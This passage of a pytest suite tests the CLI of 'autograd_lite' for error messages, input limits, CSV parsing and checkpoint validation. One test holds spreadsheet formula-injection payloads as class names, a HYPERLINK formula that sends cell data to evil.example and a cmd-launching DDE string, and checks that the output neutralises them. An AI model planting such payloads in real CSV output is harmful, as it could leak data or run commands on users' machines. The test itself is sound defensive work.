    def fit_leaving_an_infinite_weight(model, *args, **kwargs):  # type: ignore[no-untyped-def]
        history = real_fit(model, *args, **kwargs)
        model.parameters()[0].data = -float("inf")  # a dead unit's weight: loss unaffected
        return history

    monkeypatch.setattr(nn.train, "fit", fit_leaving_an_infinite_weight)
    status = main(["train", "--epochs", "1", "--quiet", "--save", str(tmp_path / "m.json")])
    err = capsys.readouterr().err
    assert status == 1
    assert err.count("\n") == 1 and err.startswith(ERROR_PREFIX + "training diverged")
    assert "-inf" in err
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_stdout_on_a_full_device_is_one_line(tmp_path: Path) -> None:
    with open("/dev/full", "w") as full:
        result = subprocess.run(
            [sys.executable, "-m", "autograd_lite", "grad", "x", "x=1"],
            stdout=full,
            stderr=subprocess.PIPE,
            text=True,
            cwd=tmp_path,
            timeout=120,
            check=False,
        )
    assert result.returncode == 1
    assert result.stderr == f"{ERROR_PREFIX}cannot write the output: No space left on device\n"


@pytest.mark.slow
def test_a_failing_dot_with_several_lines_of_errors_is_one_line(tmp_path: Path) -> None:
    dot = tmp_path / "bin" / "dot"
    dot.parent.mkdir()
    dot.write_text("#!/bin/sh\necho 'Error: first line' >&2\necho 'second line' >&2\nexit 1\n")
    dot.chmod(0o755)
    path = f"{dot.parent}{os.pathsep}{os.environ['PATH']}"
    result = command(
        "grad", "x*2", "x=1", "--graph", "g.png", cwd=tmp_path, env={**os.environ, "PATH": path}
    )
    one_line_error(result, 2, "first line second line")
    assert not (tmp_path / "g.png").exists()


def test_report_joins_lines(capsys: pytest.CaptureFixture[str]) -> None:
    report("first\n  second\n\nthird")
    assert capsys.readouterr().err == f"{ERROR_PREFIX}first second third\n"


@pytest.mark.slow
def test_a_graph_too_large_for_the_webassembly_graphviz_names_dot(tmp_path: Path) -> None:
    # Finding 11: a 2,400-leaf expression with --graph took 18-70 s, deaf to Ctrl-C.
    def balanced(leaves: list[str]) -> str:
        while len(leaves) > 1:
            leaves = [f"({'+'.join(leaves[i : i + 2])})" for i in range(0, len(leaves), 2)]
        return leaves[0]

    # 1,300 products and 1,299 sums: 2,601 Values within the 10,000-character limit.
    expression = balanced(["x*y"] * 1300)
    no_dot = {**os.environ, "PATH": str(Path(sys.executable).parent)}
    result = command("grad", expression, "x=1", "y=2", "--graph", "g.svg", cwd=tmp_path, env=no_dot)
    one_line_error(result, 2, "more than the 2500 the in-process WebAssembly Graphviz")
    assert "'dot'" in result.stderr
    assert not (tmp_path / "g.svg").exists()
    result = command("grad", expression, "x=1", "y=2", "--graph", "g.dot", cwd=tmp_path, env=no_dot)
    assert result.returncode == 0, result.stderr  # DOT text needs no layout
    assert (tmp_path / "g.dot").read_text().startswith("digraph")


@pytest.mark.slow
def test_a_memory_limit_while_drawing_is_one_line(tmp_path: Path) -> None:
    # Finding 6: under `ulimit -v 4000000`, wasmtime's "mmap failed" escaped as a traceback.
    import resource

    def limit_memory() -> None:
        limit = 4_000_000 * 1024
        resource.setrlimit(resource.RLIMIT_AS, (limit, limit))

    no_dot = {**os.environ, "PATH": str(Path(sys.executable).parent)}
    result = command(
        "grad", "x*2", "x=1", "--graph", "g.svg", cwd=tmp_path, env=no_dot,
        preexec_fn=limit_memory,
    )  # fmt: skip
    one_line_error(result, 2, "mmap failed")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_an_overflowing_derivative_is_an_error(tmp_path: Path) -> None:
    result = command("grad", "1/x", "x=1e-160", cwd=tmp_path)
    one_line_error(result, 1, "overflow: df/dx = -inf")
    assert result.stdout == ""


@pytest.mark.parametrize(
    ("args", "fragment"),
    [
        (["--samples", "1000000000"], "--samples 1000000000: more than the limit of 100,000"),
        (["--hidden", ",".join(["1024"] * 4)], "parameters, more than the limit of 1,000,000"),
    ],
)
def test_sizes_beyond_the_limits_are_refused_before_building(
    tmp_path: Path, args: list[str], fragment: str
) -> None:
    result = command("train", *args, cwd=tmp_path)
    one_line_error(result, 2, fragment)
    assert result.stdout == ""


@pytest.mark.slow
def test_ctrl_c_during_training_exits_130_and_writes_nothing(tmp_path: Path) -> None:
    status, stderr = signal_during_training(tmp_path, signal.SIGINT)
    assert status == 130
    assert stderr.splitlines()[-1] == f"{ERROR_PREFIX}interrupted"
    assert "Traceback" not in stderr
    assert list(tmp_path.iterdir()) == []


@pytest.mark.slow
def test_a_reader_that_goes_away_exits_141_quietly(tmp_path: Path) -> None:
    write_csv(tmp_path / "rows.csv", "0.5,0.5\n" * 1000)
    assert (
        command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path).returncode
        == 0
    )
    process = subprocess.Popen(
        [sys.executable, "-m", "autograd_lite", "predict", "m.json", "rows.csv"],
        cwd=tmp_path,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert process.stdout is not None and process.stderr is not None
    process.stdout.close()  # the reader is gone before the output comes, as after `| head`
    stderr = process.stderr.read()
    assert process.wait(timeout=60) == 141
    assert stderr == b""


def test_a_huge_loss_is_printed_in_scientific_notation() -> None:
    assert format_loss(0.123456) == "0.1235"
    assert format_loss(1e200) == "1e+200"
    assert format_loss(-123456789.0) == "-1.235e+08"


@pytest.mark.slow
def test_quiet_silences_the_progress_output(tmp_path: Path) -> None:
    quiet = command("train", "--epochs", "3", "--quiet", cwd=tmp_path)
    assert (quiet.returncode, quiet.stderr) == (0, "")
    chatty = command("train", "--epochs", "3", cwd=tmp_path)
    assert chatty.returncode == 0 and chatty.stderr != ""
    # Not a terminal: lines, not a bar redrawn with carriage returns.
    assert "\r" not in chatty.stderr
    # The progress output's last reading and the final line agree.
    last = chatty.stderr.splitlines()[-1]
    loss, accuracy = re.search(r"loss=(\S+) accuracy=(\S+)", last).groups()  # type: ignore[union-attr]
    final = f"final loss {loss}, accuracy {float(accuracy):.1%}; test loss "
    assert any(line.startswith(final) for line in chatty.stdout.splitlines())


# ---- CSV input: sizes, standard input, encodings, plain numbers and class names ----------


@pytest.mark.slow
def test_a_csv_of_a_hundred_thousand_columns_is_refused(tmp_path: Path) -> None:
    write_csv(tmp_path / "wide.csv", ",".join(["1"] * 100_000) + "\n")
    result = command("train", "--data", "wide.csv", cwd=tmp_path)
    one_line_error(result, 2, "wide.csv, line 1: 100000 columns, more than the limit of 1025")


@pytest.mark.slow
def test_thousands_of_classes_are_refused(tmp_path: Path) -> None:
    rows = "".join(f"{i},{i % 7},{i}\n" for i in range(5000))
    write_csv(tmp_path / "labels.csv", rows)
    result = command("train", "--data", "labels.csv", cwd=tmp_path)
    one_line_error(result, 2, "5000 distinct labels, more than the limit of 100 classes")
    names = "".join(f"{i},{i % 7},name{i}\n" for i in range(5000))
    write_csv(tmp_path / "names.csv", names)
    result = command("train", "--data", "names.csv", cwd=tmp_path)
    one_line_error(result, 2, "5000 distinct labels")


@pytest.mark.slow
def test_a_csv_of_too_many_cells_is_refused_while_reading(tmp_path: Path) -> None:
    write_csv(tmp_path / "long.csv", "0.5,0.25,1\n" * 700_000)  # 2.1 million cells
    result = command("train", "--data", "long.csv", cwd=tmp_path)
    one_line_error(result, 2, "long.csv, line 666667: more than the limit of 2000000 cells")


@pytest.mark.slow
def test_endless_inputs_are_refused_instead_of_filling_memory(tmp_path: Path) -> None:
    model = command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path)
    assert model.returncode == 0, model.stderr
    result = command("predict", "m.json", "/dev/zero", cwd=tmp_path)
    one_line_error(result, 2, "/dev/zero: more than the limit of 64 MiB of text")
    result = command("predict", "/dev/zero", "m.json", cwd=tmp_path)
    one_line_error(result, 2, "/dev/zero: more than 256 MiB, too large for a checkpoint")


@pytest.mark.slow
def test_read_csv_holds_little_more_than_the_table_it_returns(tmp_path: Path) -> None:
    # Finding 6: read_csv kept every cell as a string, then the floats: about 40 times the
    # file at its peak (13 MB took 509 MB). Rows are now turned into floats as they are
    # read, so the peak is the table itself (about 13 times the file for 2 columns).
    path = tmp_path / "big.csv"
    path.write_text("".join(f"{i % 997 / 7:.4f},{i % 89 * 0.5:.3f}\n" for i in range(150_000)))
    size = path.stat().st_size  # 2 MB
    script = (
        "import sys, tracemalloc\n"
        "from autograd_lite.nn.data import read_csv\n"
        "tracemalloc.start()\n"
        "table = read_csv(sys.argv[1])\n"
        "held, peak = tracemalloc.get_traced_memory()\n"
        "print(len(table.rows), held, peak)\n"
    )
    result = subprocess.run(
        [sys.executable, "-c", script, str(path)],
        capture_output=True, text=True, cwd=tmp_path, timeout=300, check=False,
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    rows, held, peak = map(int, result.stdout.split())
    assert rows == 150_000
    assert held < 16 * size  # about 165 bytes a row of two numbers and its line number
    assert peak < held * 1.2 + 2**20, (peak / size, held / size)


@pytest.mark.slow
def test_a_first_row_with_a_typo_is_not_dropped_as_a_header(tmp_path: Path) -> None:
    write_csv(tmp_path / "d.csv", "1,x,0\n2,3,1\n4,5,0\n")
    result = command("train", "--data", "d.csv", "--epochs", "1", cwd=tmp_path)
    one_line_error(result, 2, "d.csv, line 1, column 2: 'x' is not a number")


@pytest.mark.slow
def test_labels_that_skip_class_zero_are_warned_about(tmp_path: Path) -> None:
    write_csv(tmp_path / "d.csv", "0.1,0.2,1\n0.3,0.4,2\n0.5,0.1,1\n0.7,0.9,2\n")
    result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.stderr == (
        "autograd-lite: warning: d.csv: class 0 has no samples; labels are class numbers "
        "0..2, so the model gets 3 outputs\n"
    )
    assert "on 3 samples of d.csv (3 classes, 1 held out for testing)" in result.stdout


@pytest.mark.slow
def test_train_reads_standard_input(tmp_path: Path) -> None:
    rows = "x1,x2,label\n0.1,0.2,0\n0.9,0.8,1\n0.2,0.1,0\n0.8,0.9,1\n"
    result = command("train", "--data", "-", "--epochs", "2", "--quiet", cwd=tmp_path, stdin=rows)
    assert result.returncode == 0, result.stderr
    assert "on 3 samples of <stdin> (2 classes, 1 held out for testing)" in result.stdout


@pytest.mark.slow
def test_predict_reads_standard_input_and_writes_a_file(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "fifo.csv")
    assert (
        command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path).returncode
        == 0
    )
    printed = command("predict", "m.json", "-", cwd=tmp_path, stdin="0.5,0.5\n-1,1\n")
    assert printed.returncode == 0, printed.stderr
    assert len(printed.stdout.splitlines()) == 3
    written = command(
        "predict", "m.json", "-", "-o", "p.csv", cwd=tmp_path, stdin="0.5,0.5\n-1,1\n"
    )
    assert (written.returncode, written.stdout) == (0, "")
    assert (tmp_path / "p.csv").read_text() == printed.stdout
    refused = command("predict", "m.json", "-", "-o", "fifo.csv", cwd=tmp_path, stdin="1,1\n")
    one_line_error(refused, 2, "it is a FIFO")


# Bytes that are not UTF-8 (0xe9 is "é" in Latin-1), as a str that a text-mode subprocess
# writes back as those bytes when its errors handler is surrogateescape.
NOT_UTF8 = "1,2,caf\udce9\n3,4,b\n1.5,2.5,caf\udce9\n3.5,4.5,b\n"


RAW_BYTES = {"encoding": "utf-8", "errors": "surrogateescape"}


@pytest.mark.slow
def test_bytes_that_are_not_utf8_are_refused_on_standard_input_as_in_a_file(
    tmp_path: Path,
) -> None:
    # Finding 1: standard input was decoded with surrogateescape, so `caf\xe9` became the
    # class "caf\udce9", saved, and predict died with a UnicodeEncodeError traceback.
    (tmp_path / "latin1.csv").write_bytes(NOT_UTF8.encode("utf-8", "surrogateescape"))
    for data, stdin in (("latin1.csv", None), ("-", NOT_UTF8)):
        result = command(
            "train", "--data", data, "--epochs", "1", "--save", "m.json",
            cwd=tmp_path, stdin=stdin, **RAW_BYTES,
        )  # fmt: skip
        one_line_error(result, 2, "not a text CSV file (it is not UTF-8)")
        assert result.stdout == ""
        assert not (tmp_path / "m.json").exists()
    # The same name in UTF-8 is a class name like any other.
    result = command(
        "train", "--data", "-", "--epochs", "1", "--quiet", "--test-fraction", "0",
        "--save", "m.json", cwd=tmp_path, stdin=NOT_UTF8.replace("\udce9", "\u00e9"),
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert json.loads((tmp_path / "m.json").read_text("utf-8"))["classes"] == ["b", "café"]


@pytest.mark.slow
def test_file_names_that_are_not_utf8_are_printed_escaped(tmp_path: Path) -> None:
    # Finding 1's sibling: train printed the --data and --save names on stdout as they
    # came, and a byte that was not UTF-8 in them was a UnicodeEncodeError traceback.
    data, save = os.fsdecode(b"caf\xe9.csv"), os.fsdecode(b"m\xe9.json")
    write_csv(tmp_path / data, "0,0,0\n1,1,1\n0,1,0\n1,0,1\n")
    result = command(
        "train", "--data", data, "--epochs", "1", "--quiet", "--test-fraction", "0",
        "--save", save, cwd=tmp_path, env={**os.environ, "PYTHONIOENCODING": "utf-8"},
    )  # fmt: skip
    assert result.returncode == 0, result.stderr
    assert "on 4 samples of caf\\udce9.csv (2 classes)" in result.stdout
    assert result.stdout.endswith("wrote m\\udce9.json\n")
    assert (tmp_path / save).is_file()


@pytest.mark.parametrize(
    ("row", "cell"),
    [
        ("1_000,2,0", "'1_000'"),  # float() reads 1000.0
        ("\u0661,2,0", "'\u0661'"),  # ARABIC-INDIC DIGIT ONE: float() reads 1.0
        ("\uff11.5,2,0", "'\uff11.5'"),  # FULLWIDTH DIGIT ONE
        ("1,2\u0660,0", "'2\u0660'"),
    ],
)
@pytest.mark.slow
def test_numbers_are_plain_ascii(tmp_path: Path, row: str, cell: str) -> None:
    # Finding 7: cells went through float(), which reads 1_000 and non-ASCII digits.
    write_csv(tmp_path / "d.csv", f"x,y,label\n0,0,0\n{row}\n0,1,1\n1,1,1\n")
    result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
    column = 1 if row.index(cell.strip("'")) == 0 else 2
    one_line_error(
        result, 2, f"d.csv, line 3, column {column}: {cell} is not a number (expected plain ASCII"
    )


@pytest.mark.slow
def test_class_numbers_are_plain_ascii_and_predict_reads_plain_numbers(tmp_path: Path) -> None:
    # Finding 7: the label "\u0661" (an Arabic-Indic 1) was class 1; "1_0" class 10.
    for label in ("\u0661", "1_0"):
        write_csv(tmp_path / "d.csv", f"0,0,0\n1,1,{label}\n0,1,0\n1,0,{label}\n")
        result = command("train", "--data", "d.csv", "--epochs", "1", "--quiet", cwd=tmp_path)
        one_line_error(
            result, 2, "line 2: the label must be a class number 0, 1, 2, ... (ASCII digits)"
        )
    identity_model(tmp_path / "m.json", ["a", "b"])
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,0\n1_0,0\n")
    one_line_error(result, 2, "<stdin>, line 2, column 1: '1_0' is not a number")


@pytest.mark.slow
def test_class_names_train_save_and_predict_by_name(tmp_path: Path) -> None:
    rows = [(-1.0, -1.0, "setosa"), (1.0, 1.0, "virginica"), (-1.2, -0.8, "setosa")]
    rows += [(0.9, 1.1, "virginica"), (-0.9, -1.1, "setosa"), (1.1, 0.9, "virginica")]
    text = "a,b,species\n" + "".join(f"{x},{y},{name}\n" for x, y, name in rows)
    write_csv(tmp_path / "flowers.csv", text)
    trained = command(
        "train", "--data", "flowers.csv", "--epochs", "60", "--batch-size", "6", "--lr", "0.1",
        "--test-fraction", "0", "--quiet", "--save", "m.json", cwd=tmp_path,
    )  # fmt: skip
    assert trained.returncode == 0, trained.stderr
    assert "on 6 samples of flowers.csv (2 classes) for 60 epochs" in trained.stdout
    assert json.loads((tmp_path / "m.json").read_text())["classes"] == ["setosa", "virginica"]
    # The training file itself (names in the last column) and standard input both work.
    for data, stdin in (("flowers.csv", None), ("-", "-2,-2\n2,2\n")):
        predicted = command("predict", "m.json", data, cwd=tmp_path, stdin=stdin)
        assert predicted.returncode == 0, predicted.stderr
        classes = [line.split(",")[0] for line in predicted.stdout.splitlines()[1:]]
        expected = [name for _, _, name in rows] if stdin is None else ["setosa", "virginica"]
        assert classes == expected


@pytest.mark.slow
def test_class_names_that_a_spreadsheet_would_run_are_neutralised(tmp_path: Path) -> None:
    # Finding 7: a class named =HYPERLINK(...) was written as is into predict's CSV, where
    # a spreadsheet runs it. OWASP: a cell starting with = + - @ tab or CR gets a quote.
    import csv
    import io

    names = [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)",
        "\tindented",
        "\rreturn",
        "plain = name",
    ]
    identity_model(tmp_path / "m.json", names)
    rows = "".join(
        ",".join("1" if j == i else "0" for j in range(len(names))) + "\n"
        for i in range(len(names))
    )
    printed = command("predict", "m.json", "-", cwd=tmp_path, stdin=rows)
    assert printed.returncode == 0, printed.stderr
    written = command("predict", "m.json", "-", "-o", "p.csv", cwd=tmp_path, stdin=rows)
    assert (written.returncode, written.stdout) == (0, "")
    assert (tmp_path / "p.csv").read_text("utf-8") == printed.stdout
    text = (tmp_path / "p.csv").read_bytes().decode("utf-8")  # "\r" as written
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert cells == ["'" + name for name in names[:-1]] + ["plain = name"]


# ---- checkpoints that predict reads ------------------------------------------------------


def identity_model(path: Path, classes: list[str], **document: object) -> None:
    """A checkpoint of MLP(k, [k]) with identity weights: the row e_i predicts class i."""
    from autograd_lite import nn

    k = len(classes)
    model = nn.MLP(k, [k], seed=0)
    state = {name: 0.0 for name in model.state_dict()}
    for i in range(k):
        state[f"layers.0.neurons.{i}.w.{i}"] = 1.0
    text = nn.checkpoint.encode("MLP", model.config(), state, ["class"] * k)
    path.write_text(json.dumps({**json.loads(text), "classes": classes, **document}))


@pytest.mark.slow
def test_class_names_that_do_not_match_the_model_are_an_error(tmp_path: Path) -> None:
    assert (
        command("train", "--epochs", "1", "--quiet", "--save", "m.json", cwd=tmp_path).returncode
        == 0
    )
    document = json.loads((tmp_path / "m.json").read_text())
    document["classes"] = ["a", "b", "c"]
    (tmp_path / "m.json").write_text(json.dumps(document))
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,2\n")
    one_line_error(result, 2, "the model has 2 classes but the file names 3")


@pytest.mark.slow
def test_a_checkpoint_whose_architecture_implies_other_parameters_is_refused(
    tmp_path: Path,
) -> None:
    # Finding 9: 3,000 numbers and sizes [3000] * 5 built 45 million Values (73 s, 5.9 GB).
    document = {
        "format": "autograd-lite-checkpoint",
        "version": 1,
        "model": "MLP",
        "config": {"nin": 3000, "sizes": [3000, 3000, 3000, 3000, 3000]},
        "parameters": {f"p{i}": 0.0 for i in range(3000)},
    }
    (tmp_path / "m.json").write_text(json.dumps(document))
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1\n")
    one_line_error(result, 2, "makes a MLP of 45015000 parameters, but the file holds 3000")


@pytest.mark.slow
def test_a_checkpoint_class_name_that_is_not_text_is_refused(tmp_path: Path) -> None:
    # Finding 1: a lone-surrogate escape in "classes" crashed predict on stdout (where
    # stdout's errors handler is strict, as PYTHONIOENCODING=utf-8 makes it) and with
    # --output.
    identity_model(tmp_path / "m.json", ["b", "caf\udce9"])
    strict_stdout = {**os.environ, "PYTHONIOENCODING": "utf-8"}
    for output in ([], ["--output", "p.csv"]):
        result = command(
            "predict", "m.json", "-", *output, cwd=tmp_path, stdin="0,1\n", env=strict_stdout
        )
        one_line_error(result, 2, "m.json: class name 1 of \"classes\", 'caf\\udce9', is not text")
        assert result.stdout == ""
        assert not (tmp_path / "p.csv").exists()


@pytest.mark.slow
@pytest.mark.parametrize("version", [True, 1.0, "1", None])
def test_a_checkpoint_version_must_be_the_integer_1(tmp_path: Path, version: object) -> None:
    # Finding 8: "version": true or 1.0 was taken as version 1.
    identity_model(tmp_path / "m.json", ["a", "b"], version=version)
    result = command("predict", "m.json", "-", cwd=tmp_path, stdin="1,0\n")
    shown = json.dumps(version)
    one_line_error(result, 2, f"m.json: checkpoint version {shown} is not supported (expected 1)")
    assert result.stdout == ""
